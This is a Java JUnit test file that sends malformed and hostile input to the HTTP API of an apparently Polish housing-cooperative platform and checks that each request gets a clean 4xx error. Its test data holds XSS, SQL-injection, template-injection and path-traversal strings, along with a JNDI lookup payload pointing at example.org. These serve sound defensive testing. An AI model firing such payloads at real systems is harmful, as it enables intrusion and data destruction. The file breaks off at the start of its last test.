package iok.platform.http;

import static org.assertj.core.api.Assertions.assertThat;

import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import iok.support.ApiClient;
import iok.support.ApiClient.Response;
import iok.support.TestIok;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStream;
import java.io.InputStreamReader;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.Socket;
import java.net.URLEncoder;
import java.net.http.HttpHeaders;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.Supplier;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Bad input, sent to every endpoint that takes a body and to the paths and headers people can get
 * wrong: each answer is a 4xx in API.md's error format, never a 500 or a stack trace, and nothing is
 * recorded in the event store.
 */
@DisplayNameGeneration(DisplayNameGenerator.ReplaceUnderscores.class)
class BadInputTest {

  private static final int BODY_LIMIT = 256 * 1024; // IOK_BODY_LIMIT_BYTES default
  /** Names of the runtime's and the libraries' classes that must never reach a client. */
  private static final Pattern CLASS_NAME = Pattern.compile(
      "\\b(?:java|javax|jdk|sun|com\\.fasterxml|io\\.vertx|io\\.netty|org\\.axonframework|org\\.postgresql|iok)\\.[A-Za-z_$]");
  private static final Pattern STACK_TRACE = Pattern.compile("Exception|Error:|\\tat |\\bat [a-z]+\\.[a-z]+\\.|\\.java:\\d+");

  private static TestIok iok;
  private static ApiClient api;
  private static String adminToken;
  private static String residentToken;
  private static String residentPassword;
  private static String opoleResidentToken;
  private static String opoleResidentPassword;
  /** Past the forced steps, an owner in a housing community: may call every resident endpoint. */
  private static String ownerToken;
  private static String blockTarget;
  private static String foreignAccount;

  @BeforeAll
  static void start() {
    iok = TestIok.start();
    api = iok.client();
    adminToken = api.login("sm-prudnik", "admin", TestIok.ADMIN_PASSWORD);
    var anna = iok.resident("sm-prudnik", 0);
    residentPassword = anna.password();
    residentToken = api.login("sm-prudnik", anna.login(), anna.password());
    var maria = iok.resident("sm-opole", 0);
    opoleResidentPassword = maria.password();
    opoleResidentToken = api.login("sm-opole", maria.login(), maria.password());
    var piotr = iok.resident("sm-opole", 1);
    ownerToken = api.readyResident("sm-opole", piotr.login(), piotr.password(), "Gotowy2026");
    String jan = iok.resident("sm-prudnik", 1).login();
    blockTarget = api.get("/api/admin/accounts?q=" + jan, adminToken).json().getJsonArray("accounts").stream()
        .map(JsonObject.class::cast).filter(a -> jan.equals(a.getString("login"))).findFirst().orElseThrow()
        .getString("accountId");
    Response opoleAdmin = api.post("/api/auth/login", null,
        new JsonObject().put("cooperative", "sm-opole").put("login", "admin").put("password", TestIok.ADMIN_PASSWORD).encode());
    foreignAccount = opoleAdmin.json().getString("accountId");
  }

  @AfterAll
  static void stop() {
    if (iok != null) iok.close();
  }

  // ---------------------------------------------------------------- the endpoints that take a body

  /** TEXT is any required value sent as a string (free text, a code such as a choice, a time); FLAG an optional
   * boolean; LIST an optional array of strings. */
  enum Kind { TEXT, SECRET, OPTIONAL_TEXT, FLAG, LIST }

  record Field(String name, Kind kind, int max) {
    boolean required() {
      return kind == Kind.TEXT || kind == Kind.SECRET;
    }

    boolean textual() {
      return kind == Kind.TEXT || kind == Kind.OPTIONAL_TEXT;
    }

    /** Values of the right JSON type for this field, which the wrong-type cases must skip. */
    boolean accepts(Object value) {
      return switch (kind) {
        case FLAG -> value instanceof Boolean;
        case LIST -> value instanceof JsonArray a && a.stream().allMatch(String.class::isInstance);
        default -> false;
      };
    }
  }

  enum Endpoint {
    LOGIN("/api/auth/login",
        new Field("cooperative", Kind.TEXT, 64), new Field("login", Kind.TEXT, 64), new Field("password", Kind.SECRET, 1024)),
    PASSWORD_CHANGE("/api/auth/password",
        new Field("currentPassword", Kind.SECRET, 1024), new Field("newPassword", Kind.SECRET, 1024)),
    REGULATIONS_ACCEPT("/api/regulations/accept", new Field("version", Kind.TEXT, 40)),
    ADMIN_REGISTER_ACCOUNT("/api/admin/accounts",
        new Field("firstName", Kind.TEXT, 100), new Field("lastName", Kind.TEXT, 100),
        new Field("email", Kind.OPTIONAL_TEXT, 254), new Field("phone", Kind.OPTIONAL_TEXT, 20)),
    ADMIN_BLOCK("/api/admin/accounts/{id}/block", new Field("reason", Kind.TEXT, 500)),
    ADMIN_PUBLISH_REGULATIONS("/api/admin/regulations",
        new Field("version", Kind.TEXT, 40), new Field("text", Kind.TEXT, 200_000)),
    ADMIN_DRAFT_RESOLUTION("/api/admin/communities/resolutions",
        new Field("community", Kind.TEXT, 100), new Field("number", Kind.TEXT, 40), new Field("title", Kind.TEXT, 200),
        new Field("text", Kind.TEXT, 50_000), new Field("rule", Kind.TEXT, 40), new Field("opensAt", Kind.TEXT, 64),
        new Field("closesAt", Kind.TEXT, 64), new Field("ownersSeeLiveTally", Kind.FLAG, 0),
        new Field("ownersSeeNames", Kind.FLAG, 0), new Field("attachments", Kind.LIST, 0)),
    VOTE("/api/communities/resolutions/{id}/votes",
        new Field("choice", Kind.TEXT, 20), new Field("premisesId", Kind.OPTIONAL_TEXT, 64)),
    ADMIN_ENTER_VOTE("/api/admin/communities/resolutions/{id}/votes",
        new Field("premisesId", Kind.TEXT, 64), new Field("accountId", Kind.OPTIONAL_TEXT, 64),
        new Field("choice", Kind.TEXT, 20), new Field("source", Kind.TEXT, 20));

    final String template;
    final List<Field> fields;

    Endpoint(String template, Field... fields) {
      this.template = template;
      this.fields = List.of(fields);
    }

    String path() {
      return template.replace("{id}", blockTarget);
    }

    String token() {
      return switch (this) {
        case LOGIN -> null;
        case PASSWORD_CHANGE, REGULATIONS_ACCEPT -> residentToken;
        case VOTE -> ownerToken;
        default -> adminToken;
      };
    }

    /** A body this endpoint would accept; every case below breaks it in exactly one way. */
    JsonObject valid() {
      return switch (this) {
        case LOGIN -> new JsonObject().put("cooperative", "sm-prudnik").put("login", "admin")
            .put("password", TestIok.ADMIN_PASSWORD);
        case PASSWORD_CHANGE -> new JsonObject().put("currentPassword", residentPassword).put("newPassword", "Nowe12345");
        case REGULATIONS_ACCEPT -> new JsonObject().put("version", "2019-1");
        case ADMIN_REGISTER_ACCOUNT -> new JsonObject().put("firstName", "Ewa").put("lastName", "Testowa")
            .put("email", "ewa.testowa@example.org").put("phone", "+48 600 000 000");
        case ADMIN_BLOCK -> new JsonObject().put("reason", "Zaległości");
        case ADMIN_PUBLISH_REGULATIONS -> new JsonObject().put("version", "2099-1").put("text", "Regulamin testowy");
        case ADMIN_DRAFT_RESOLUTION -> new JsonObject().put("community", "Wspólnota Mieszkaniowa Polna 5")
            .put("number", "1/2027").put("title", "Plan gospodarczy").put("text", "Właściciele zatwierdzają plan.")
            .put("rule", "shares").put("opensAt", "2027-03-01T08:00:00+01:00").put("closesAt", "2027-03-08T20:00:00+01:00")
            .put("ownersSeeLiveTally", false).put("ownersSeeNames", false).put("attachments", new JsonArray());
        case VOTE -> new JsonObject().put("choice", "for").put("premisesId", "P1");
        case ADMIN_ENTER_VOTE -> new JsonObject().put("premisesId", "P1").put("accountId", "a-1").put("choice", "against")
            .put("source", "paper");
      };
    }

    List<Field> required() {
      return fields.stream().filter(Field::required).toList();
    }

    List<Field> textual() {
      return fields.stream().filter(Field::textual).toList();
    }

    @Override
    public String toString() {
      return "POST " + template;
    }
  }

  // ---------------------------------------------------------------- bodies that are not a JSON object

  static Stream<Arguments> bodies_that_are_not_a_json_object() {
    List<Arguments> cases = new ArrayList<>();
    for (Endpoint e : Endpoint.values()) {
      String valid = e.valid().encode();
      String first = e.fields.getFirst().name();
      cases.add(Arguments.of(e, "an unterminated object", "{"));
      cases.add(Arguments.of(e, "a key without a value", "{\"" + first + "\":"));
      cases.add(Arguments.of(e, "plain text", "this is not json"));
      cases.add(Arguments.of(e, "single-quoted JSON", valid.replace('"', '\'')));
      cases.add(Arguments.of(e, "a trailing comma", valid.substring(0, valid.length() - 1) + ",}"));
      cases.add(Arguments.of(e, "a comment", "/* hi */" + valid));
      cases.add(Arguments.of(e, "an unquoted NaN", "{\"" + first + "\":NaN}"));
      cases.add(Arguments.of(e, "a second value after the object", valid + " {}"));
      cases.add(Arguments.of(e, "an empty body", ""));
      cases.add(Arguments.of(e, "only whitespace", "  \n\t "));
      cases.add(Arguments.of(e, "an empty JSON array", "[]"));
      cases.add(Arguments.of(e, "an array holding the object", "[" + valid + "]"));
      cases.add(Arguments.of(e, "a JSON string", "\"Zaległości\""));
      cases.add(Arguments.of(e, "a JSON number", "42"));
      cases.add(Arguments.of(e, "a JSON boolean", "true"));
      cases.add(Arguments.of(e, "JSON null", "null"));
    }
    return cases.stream();
  }

  @ParameterizedTest(name = "{0} with {1}")
  @MethodSource("bodies_that_are_not_a_json_object")
  void bodies_that_are_not_a_json_object_are_refused_as_malformed_json(Endpoint endpoint, String what, String body) {
    Response r = postRecordingNothing(endpoint, body);
    assertError(r, 400, "malformed_json");
  }

  @ParameterizedTest(name = "{0}")
  @EnumSource(Endpoint.class)
  void a_body_that_is_not_utf8_is_refused_as_malformed_json(Endpoint endpoint) {
    byte[] open = ("{\"" + endpoint.fields.getFirst().name() + "\":\"").getBytes(StandardCharsets.UTF_8);
    byte[] bytes = Arrays.copyOf(open, open.length + 4);
    System.arraycopy(new byte[] {(byte) 0xC3, (byte) 0x28, '"', '}'}, 0, bytes, open.length, 4);
    Response r = recordingNothing(() -> api.send(api.builder(endpoint.path(), endpoint.token())
        .POST(HttpRequest.BodyPublishers.ofByteArray(bytes)).header("Content-Type", "application/json").build()));
    assertError(r, 400, "malformed_json");
  }

  // ---------------------------------------------------------------- fields

  static Stream<Arguments> required_fields() {
    return Arrays.stream(Endpoint.values()).flatMap(e -> e.required().stream().map(f -> Arguments.of(e, f.name())));
  }

  @ParameterizedTest(name = "{0} without {1}")
  @MethodSource("required_fields")
  void a_missing_required_field_is_refused_with_missing_field_naming_it(Endpoint endpoint, String field) {
    JsonObject body = endpoint.valid();
    body.remove(field);
    Response r = postRecordingNothing(endpoint, body.encode());
    assertError(r, 400, "missing_field");
    assertThat(r.json().getJsonObject("details").getString("field")).isEqualTo(field);
  }

  @ParameterizedTest(name = "{0} with {1}: null")
  @MethodSource("required_fields")
  void a_required_field_that_is_null_is_refused_with_missing_field_naming_it(Endpoint endpoint, String field) {
    Response r = postRecordingNothing(endpoint, endpoint.valid().putNull(field).encode());
    assertError(r, 400, "missing_field");
    assertThat(r.json().getJsonObject("details").getString("field")).isEqualTo(field);
  }

  @ParameterizedTest(name = "{0}")
  @EnumSource(Endpoint.class)
  void an_empty_object_is_refused_with_missing_field_naming_a_required_field(Endpoint endpoint) {
    Response r = postRecordingNothing(endpoint, "{}");
    assertError(r, 400, "missing_field");
    assertThat(r.json().getJsonObject("details").getString("field"))
        .isIn(endpoint.required().stream().map(Field::name).toList());
  }

  static Stream<Arguments> unknown_fields() {
    return Arrays.stream(Endpoint.values()).flatMap(e -> {
      String first = e.fields.getFirst().name();
      String capitalised = Character.toUpperCase(first.charAt(0)) + first.substring(1);
      return Stream.of("extra", "role", "accountId", "cooperativeId", "__proto__", capitalised, first + " ", "")
          .filter(name -> e.fields.stream().noneMatch(f -> f.name().equals(name)))
          .map(name -> Arguments.of(e, name));
    });
  }

  @ParameterizedTest(name = "{0} with an extra field \"{1}\"")
  @MethodSource("unknown_fields")
  void an_unknown_field_is_refused_with_unknown_field_naming_it(Endpoint endpoint, String field) {
    Response r = postRecordingNothing(endpoint, endpoint.valid().put(field, "admin").encode());
    assertError(r, 400, "unknown_field");
    assertThat(r.json().getJsonObject("details").getString("field")).isEqualTo(field);
  }

  static Stream<Arguments> fields_of_the_wrong_type() {
    List<Object> wrong = List.of(42, 4.2, -0.0, true, false, new JsonObject(), new JsonObject().put("value", "x"),
        new JsonArray(), new JsonArray().add("x"));
    return Arrays.stream(Endpoint.values())
        .flatMap(e -> e.fields.stream().flatMap(f -> wrong.stream().filter(v -> !f.accepts(v))
            .map(v -> Arguments.of(e, f.name(), v))));
  }

  @ParameterizedTest(name = "{0} with {1}: {2}")
  @MethodSource("fields_of_the_wrong_type")
  void a_field_of_the_wrong_type_is_refused_with_invalid_field_type_naming_it(Endpoint endpoint, String field, Object value) {
    Response r = postRecordingNothing(endpoint, endpoint.valid().put(field, value).encode());
    assertError(r, 400, "invalid_field_type");
    assertThat(r.json().getJsonObject("details").getString("field")).isEqualTo(field);
  }

  static Stream<Arguments> duplicate_keys() {
    return Arrays.stream(Endpoint.values()).flatMap(e -> e.fields.stream().map(f -> {
      String valid = e.valid().encode();
      String other = f.name().equals("email") ? "\"ewa@example.org\"" : f.name().equals("phone") ? "\"+48 600 111 222\"" : "\"Inna wartość1\"";
      return Arguments.of(e, f.name(), "{\"" + f.name() + "\":" + other + "," + valid.substring(1));
    }));
  }

  @ParameterizedTest(name = "{0} with {1} twice")
  @MethodSource("duplicate_keys")
  void a_duplicate_key_is_refused_with_400(Endpoint endpoint, String field, String body) {
    Response r = postRecordingNothing(endpoint, body);
    assertError(r, 400, null);
  }

  static Stream<Arguments> deeply_nested_bodies() {
    return Arrays.stream(Endpoint.values()).flatMap(e -> {
      String first = e.fields.getFirst().name();
      return Stream.of(
          Arguments.of(e, "10,000 unclosed [", "[".repeat(10_000)),
          Arguments.of(e, "10,000 balanced [ ]", "[".repeat(10_000) + "]".repeat(10_000)),
          Arguments.of(e, "10,000 [ in a field", "{\"" + first + "\":" + "[".repeat(10_000) + "]".repeat(10_000) + "}"),
          Arguments.of(e, "5,000 nested objects in a field",
              "{\"" + first + "\":" + "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000) + "}"),
          Arguments.of(e, "5,000 nested objects under an unknown key",
              "{\"deep\":" + "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000) + "}"));
    });
  }

  @ParameterizedTest(name = "{0} with {1}")
  @MethodSource("deeply_nested_bodies")
  void deeply_nested_json_is_refused_with_400(Endpoint endpoint, String what, String body) {
    assertThat(body.length()).isLessThan(BODY_LIMIT);
    Response r = postRecordingNothing(endpoint, body);
    assertError(r, 400, null);
  }

  static Stream<Arguments> control_characters() {
    List<String> controls = List.of("\u0000", "\u0007", "\u001b[2J", "\u007f", "\u0085", "\b");
    return Arrays.stream(Endpoint.values()).flatMap(e -> e.textual().stream().flatMap(f -> controls.stream()
        .map(c -> Arguments.of(e, f.name(), escape(c), e.valid().getString(f.name()) + c))));
  }

  @ParameterizedTest(name = "{0} with {1} holding {2}")
  @MethodSource("control_characters")
  void a_control_character_in_a_text_field_is_refused_with_invalid_field(Endpoint endpoint, String field, String shown,
                                                                         String value) {
    Response r = postRecordingNothing(endpoint, endpoint.valid().put(field, value).encode());
    assertError(r, 400, "invalid_field");
    assertThat(r.json().getJsonObject("details").getString("field")).isEqualTo(field);
  }

  static Stream<Arguments> blank_required_text() {
    return Arrays.stream(Endpoint.values()).flatMap(e -> e.textual().stream().filter(Field::required)
        .flatMap(f -> Stream.of(Arguments.of(e, f.name(), ""), Arguments.of(e, f.name(), " \t\n "))));
  }

  @ParameterizedTest(name = "{0} with {1}: \"{2}\"")
  @MethodSource("blank_required_text")
  void blank_required_text_is_refused_with_invalid_field(Endpoint endpoint, String field, String value) {
    Response r = postRecordingNothing(endpoint, endpoint.valid().put(field, value).encode());
    assertError(r, 400, "invalid_field");
    assertThat(r.json().getJsonObject("details").getString("field")).isEqualTo(field);
  }

  static Stream<Arguments> over_long_values() {
    return Arrays.stream(Endpoint.values()).flatMap(e -> e.fields.stream()
        .filter(f -> f.kind() != Kind.FLAG && f.kind() != Kind.LIST && f.max() < BODY_LIMIT / 2)
        .map(f -> Arguments.of(e, f.name(), f.max())));
  }

  @ParameterizedTest(name = "{0} with {1} one past {2} characters")
  @MethodSource("over_long_values")
  void an_over_long_value_is_refused_with_invalid_field(Endpoint endpoint, String field, int max) {
    String value = field.equals("email") ? "a".repeat(max - 11) + "@example.org" : "A1".repeat(max).substring(0, max + 1);
    assertThat(value).hasSize(max + 1);
    Response r = postRecordingNothing(endpoint, endpoint.valid().put(field, value).encode());
    assertError(r, 400, "invalid_field");
    assertThat(r.json().getJsonObject("details").getString("field")).isEqualTo(field);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"email=not-an-address", "email=two@@example.org", "email=@example.org", "email=a b@example.org",
      "phone=call me", "phone=12", "phone=+48 600 100 200 300 400", "phone=+48<script>"})
  void a_malformed_e_mail_or_phone_in_a_registration_is_refused_with_invalid_field(String fieldAndValue) {
    String field = fieldAndValue.substring(0, fieldAndValue.indexOf('='));
    String value = fieldAndValue.substring(fieldAndValue.indexOf('=') + 1);
    Endpoint e = Endpoint.ADMIN_REGISTER_ACCOUNT;
    Response r = postRecordingNothing(e, e.valid().put(field, value).encode());
    assertError(r, 400, "invalid_field");
    assertThat(r.json().getJsonObject("details").getString("field")).isEqualTo(field);
  }

  // ---------------------------------------------------------------- script and SQL in stored text

  static Stream<Arguments> hostile_text() {
    List<String> payloads = List.of(
        "<script>alert('x')</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg onload=alert(1)>",
        "Robert'); DROP TABLE account;--",
        "' OR '1'='1",
        "\"; DELETE FROM domainevententry; --",
        "${jndi:ldap://example.org/a}",
        "{{7*7}} #{7*7}",
        "\\\"}]} \\u0000");
    List<Arguments> cases = new ArrayList<>();
    for (int i = 0; i < payloads.size(); i++) cases.add(Arguments.of(payloads.get(i), "Sonda" + (char) ('A' + i) + "q"));
    return cases.stream();
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("hostile_text")
  void hostile_text_in_a_registration_is_refused_or_stored_verbatim_and_returned_as_an_inert_json_string(String payload,
                                                                                                         String marker) {
    long before = iok.allEvents();
    Response r = api.post("/api/admin/accounts", adminToken,
        new JsonObject().put("firstName", payload).put("lastName", marker + " " + payload).encode());
    assertNoLeak(r);
    if (r.status() != 201) {
      assertError(r, r.status(), null);
      assertThat(r.status()).as(describe(r)).isBetween(400, 499);
      assertThat(iok.allEvents()).as("events after a refused registration").isEqualTo(before);
      return;
    }
    Response found = api.get("/api/admin/accounts?q=" + URLEncoder.encode(marker, StandardCharsets.UTF_8), adminToken);
    assertThat(found.status()).as(describe(found)).isEqualTo(200);
    assertThat(found.headers().firstValue("Content-Type")).hasValueSatisfying(ct -> assertThat(ct).startsWith("application/json"));
    assertThat(found.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
    JsonArray accounts = found.json().getJsonArray("accounts");
    assertThat(accounts).hasSize(1);
    JsonObject account = accounts.getJsonObject(0);
    assertThat(account.getString("accountId")).isEqualTo(r.json().getString("accountId"));
    assertThat(account.getValue("firstName")).isInstanceOf(String.class).isEqualTo(payload);
    assertThat(account.getValue("lastName")).isInstanceOf(String.class).isEqualTo(marker + " " + payload);
    // the store and its read model are all still there
    assertThat(api.get("/api/admin/accounts", adminToken).json().getJsonArray("accounts").size()).isGreaterThan(3);
    assertThat(iok.allEvents()).isGreaterThan(before);
  }

  @ParameterizedTest(name = "q={0}")
  @ValueSource(strings = {"' OR '1'='1", "%", "_", "%' --", "\\", "'; DROP TABLE account; --"})
  void a_search_with_sql_or_wildcards_finds_only_literal_matches(String q) {
    Response r = recordingNothing(() -> api.get("/api/admin/accounts?q=" + URLEncoder.encode(q, StandardCharsets.UTF_8),
        adminToken));
    assertThat(r.status()).as(describe(r)).isEqualTo(200);
    for (Object a : r.json().getJsonArray("accounts")) {
      JsonObject account = (JsonObject) a;
      assertThat(account.getString("login") + " " + account.getString("firstName") + " " + account.getString("lastName"))
          .containsIgnoringCase(q);
    }
  }

  @ParameterizedTest(name = "q={0}")
  @ValueSource(strings = {"a\u0000b", "\u001b[2J", "x\u007f"})
  void a_search_with_control_characters_is_refused_with_invalid_field(String q) {
    Response r = recordingNothing(() -> api.get("/api/admin/accounts?q=" + URLEncoder.encode(q, StandardCharsets.UTF_8),
        adminToken));
    assertError(r, 400, "invalid_field");
  }

  @Test
  void an_over_long_search_is_refused_with_invalid_field() {
    Response r = recordingNothing(() -> api.get("/api/admin/accounts?q=" + "a".repeat(101), adminToken));
    assertError(r, 400, "invalid_field");
  }

  // ---------------------------------------------------------------- size and media type

  @ParameterizedTest(name = "{0}")
  @EnumSource(Endpoint.class)
  void a_body_just_over_the_limit_is_refused_with_413_body_too_large(Endpoint endpoint) {
    JsonObject body = endpoint.valid();
    String first = endpoint.fields.getFirst().name();
    body.put(first, body.getString(first) + "x".repeat(BODY_LIMIT));
    String json = body.encode();
    assertThat(json.getBytes(StandardCharsets.UTF_8).length).isBetween(BODY_LIMIT + 1, BODY_LIMIT + 1000);
    Response r = postRecordingNothing(endpoint, json);
    assertError(r, 413, "body_too_large");
  }

  @ParameterizedTest(name = "{0}")
  @EnumSource(Endpoint.class)
  void a_ten_megabyte_body_is_refused_with_413_body_too_large(Endpoint endpoint) {
    String json = "{\"" + endpoint.fields.getFirst().name() + "\":\"" + "x".repeat(10 * 1024 * 1024) + "\"}";
    Response r = postRecordingNothing(endpoint, json);
    assertError(r, 413, "body_too_large");
  }

  @ParameterizedTest(name = "{0}")
  @EnumSource(Endpoint.class)
  void a_ten_megabyte_body_sent_in_chunks_is_refused_with_413_body_too_large(Endpoint endpoint) {
    long size = 10L * 1024 * 1024;
    InputStream tenMegabytes = new InputStream() {
      private long sent;

      @Override public int read() {
        return sent < size ? (sent++ == 0 ? '[' : ' ') : -1;
      }

      @Override public int read(byte[] b, int off, int len) {
        if (sent >= size) return -1;
        int n = (int) Math.min(len, size - sent);
        Arrays.fill(b, off, off + n, (byte) ' ');
        if (sent == 0) b[off] = '[';
        sent += n;
        return n;
      }
    };
    HttpRequest request = api.builder(endpoint.path(), endpoint.token())
        .header("Content-Type", "application/json")
        .POST(HttpRequest.BodyPublishers.ofInputStream(() -> tenMegabytes))
        .build();
    Response r = recordingNothing(() -> api.send(request));
    assertError(r, 413, "body_too_large");
  }

  static Stream<Arguments> wrong_content_types() {
    List<String> types = Arrays.asList(null, "text/plain", "text/plain; charset=utf-8", "application/xml",
        "application/x-www-form-urlencoded", "multipart/form-data; boundary=----iok", "application/octet-stream", "text/json");
    return Arrays.stream(Endpoint.values()).flatMap(e -> types.stream().map(t -> Arguments.of(e, t == null ? "no Content-Type" : t, t)));
  }

  @ParameterizedTest(name = "{0} sent as {1}")
  @MethodSource("wrong_content_types")
  void a_body_that_is_not_labelled_json_is_refused_with_415(Endpoint endpoint, String shown, String contentType) {
    Response r = recordingNothing(() -> api.postRaw(endpoint.path(), endpoint.token(), endpoint.valid().encode(), contentType));
    assertError(r, 415, "unsupported_media_type");
  }

  // ---------------------------------------------------------------- headers and paths

  @ParameterizedTest(name = "Last-Event-ID: {0}")
  @ValueSource(strings = {"abc", "-1", "1.5", "1e3", "0x10", "99999999999999999999", "12 13", "NaN", "' OR 1=1 --"})
  void an_invalid_last_event_id_is_refused_with_400(String lastEventId) {
    Response r = recordingNothing(() -> api.send(api.builder("/api/events", adminToken)
        .header("Last-Event-ID", lastEventId).timeout(Duration.ofSeconds(10)).GET().build()));
    assertError(r, 400, "invalid_last_event_id");
  }

  @ParameterizedTest(name = "lastEventId={0}")
  @ValueSource(strings = {"abc", "-1", "1.5"})
  void an_invalid_last_event_id_on_the_web_socket_is_refused_with_400(String lastEventId) {
    Response r = recordingNothing(() -> api.get("/api/ws?lastEventId=" + URLEncoder.encode(lastEventId, StandardCharsets.UTF_8),
        adminToken));
    assertError(r, 400, "invalid_last_event_id");
  }

  static Stream<Arguments> absurd_account_ids() {
    List<String> ids = List.of("x".repeat(65), "x".repeat(1000), "a%20b", "%27%20OR%20%271%27%3D%271", "%3Cscript%3E",
        "a.b", "%F0%9F%8F%A0", "%00", "a%2Fb", "*", "00000000-0000-0000-0000-000000000000", "admin", "{foreign}");
    List<String> actions = List.of("unlock", "block", "unblock", "reset-password");
    return actions.stream().flatMap(action -> ids.stream().map(id -> Arguments.of(action, id)));
  }

  @ParameterizedTest(name = "POST /api/admin/accounts/{1}/{0}")
  @MethodSource("absurd_account_ids")
  void an_absurd_or_foreign_account_id_in_an_admin_path_answers_404(String action, String id) {
    String path = "/api/admin/accounts/" + id.replace("{foreign}", foreignAccount) + "/" + action;
    String body = action.equals("block") ? new JsonObject().put("reason", "Zaległości").encode() : "";
    Response r = recordingNothing(() -> api.postRaw(path, adminToken, body, "application/json"));
    assertError(r, 404, null);
  }

  static Stream<Arguments> absurd_community_ids() {
    List<String> ids = List.of("x".repeat(65), "a%20b", "%27%20OR%20%271%27%3D%271", "%3Cscript%3E", "%00", "a%2Fb",
        "00000000-0000-0000-0000-000000000000", "{foreign}");
    List<String> paths = List.of("GET /api/communities/resolutions/{id}", "GET /api/communities/resolutions/{id}/votes",
        "GET /api/communities/documents/{id}/file", "POST /api/admin/communities/resolutions/{id}/open",
        "POST /api/admin/communities/resolutions/{id}/close", "GET /api/admin/communities/resolutions/{id}/roll");
    return paths.stream().flatMap(path -> ids.stream().map(id -> Arguments.of(path, id)));
  }

  @ParameterizedTest(name = "{0} with id {1}")
  @MethodSource("absurd_community_ids")
  void an_absurd_or_foreign_resolution_or_document_id_answers_404(String route, String id) {
    String method = route.substring(0, route.indexOf(' '));
    String path = route.substring(route.indexOf(' ') + 1).replace("{id}", id.replace("{foreign}", foreignAccount));
    Response r = recordingNothing(() -> method.equals("GET") ? api.get(path, adminToken)
        : api.postRaw(path, adminToken, "{}", "application/json"));
    assertError(r, 404, null);
  }

  @ParameterizedTest(name = "{0}: {1}")
  @MethodSource("malformed_voting_times")
  void a_voting_time_that_is_not_a_time_with_offset_in_this_millennium_is_refused_with_invalid_field(String field,
                                                                                                      String value) {
    Endpoint e = Endpoint.ADMIN_DRAFT_RESOLUTION;
    Response r = postRecordingNothing(e, e.valid().put(field, value).encode());
    assertError(r, 400, "invalid_field");
    assertThat(r.json().getJsonObject("details").getString("field")).isEqualTo(field);
  }

  static Stream<Arguments> malformed_voting_times() {
    return Stream.of("opensAt", "closesAt").flatMap(field -> Stream.of("2027-03-01T08:00:00", "2027-13-01T08:00:00+01:00",
        "2027-03-01", "tomorrow", "+99999-01-01T00:00:00Z", "-0001-01-01T00:00:00Z", "1900-01-01T00:00:00+01:00",
        "1740000000").map(v -> Arguments.of(field, v)));
  }

  @Test
  void more_than_ten_attachments_or_one_that_is_not_text_are_refused_with_400() {
    Endpoint e = Endpoint.ADMIN_DRAFT_RESOLUTION;
    JsonArray eleven = new JsonArray();
    for (int i = 0; i < 11; i++) eleven.add("d-" + i);
    assertError(postRecordingNothing(e, e.valid().put("attachments", eleven).encode()), 400, "invalid_field");
    assertError(postRecordingNothing(e, e.valid().put("attachments", new JsonArray().add("d\u0000")).encode()), 400, null);
    assertError(postRecordingNothing(e, e.valid().put("attachments", new JsonArray().addNull()).encode()), 400, null);
    assertError(postRecordingNothing(e, e.valid().put("attachments", new JsonArray().add(42)).encode()), 400, null);
    assertError(postRecordingNothing(e, e.valid().put("attachments", new JsonArray().add(new JsonArray())).encode()), 400,
        null);
  }

  static Stream<Arguments> malformed_document_forms() {
    byte[] pdf = "%PDF-1.4\n%%EOF\n".getBytes(StandardCharsets.US_ASCII);
    ApiClient.FilePart file = new ApiClient.FilePart("file", "plan.pdf", "application/pdf", pdf);
    String valid = new JsonObject().put("community", "Wspólnota Mieszkaniowa Polna 5").put("kind", "financial-plan")
        .put("title", "Plan").encode();
    return Stream.of(
        Arguments.of("no part 'document'", Map.of(), List.of(file), 400),
        Arguments.of("a part 'document' that is not JSON", Map.of("document", "plan"), List.of(file), 400),
        Arguments.of("a JSON array as the document", Map.of("document", "[" + valid + "]"), List.of(file), 400),
        Arguments.of("an unknown kind", Map.of("document", valid.replace("financial-plan", "novel")), List.of(file), 400),
        Arguments.of("an unknown field", Map.of("document", valid.replace("{", "{\"extra\":1,")), List.of(file), 400),
        Arguments.of("a title with a control character", Map.of("document", valid.replace("Plan\"", "Plan\\u0007\"")),
            List.of(file), 400),
        Arguments.of("no file", Map.of("document", valid), List.of(), 400),
        Arguments.of("two files", Map.of("document", valid), List.of(file, file), 400),
        Arguments.of("a file that is not a PDF", Map.of("document", valid),
            List.of(new ApiClient.FilePart("file", "plan.pdf", "application/pdf", "<html>".getBytes(StandardCharsets.US_ASCII))),
            415),
        Arguments.of("a community the books do not name", Map.of("document", valid), List.of(file), 422));
  }

  @ParameterizedTest(name = "a community document with {0}")
  @MethodSource("malformed_document_forms")
  void a_malformed_community_document_form_is_refused_in_the_error_format(String what, Map<String, String> fields,
                                                                         List<ApiClient.FilePart> files, int status) {
    Response r = recordingNothing(() -> api.postForm("/api/admin/communities/documents", adminToken, fields, files));
    assertError(r, status, null);
  }

  @Test
  void a_community_document_sent_as_json_is_refused_with_415() {
    Response r = recordingNothing(() -> api.post("/api/admin/communities/documents", adminToken,
        new JsonObject().put("community", "x").put("kind", "other").put("title", "t").encode()));
    assertError(r, 415, "unsupported_media_type");
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"/api/admin/accounts/%zz/unlock", "/api/admin/accounts/%/unlock", "/api/admin/accounts/%C0%AF/unlock",
      "/api/admin/accounts/../../auth/login", "/api/admin/accounts/a\\b/unlock", "/api/%zz"})
  void a_path_that_is_not_valid_percent_encoding_is_refused_with_4xx_in_the_error_format(String path) {
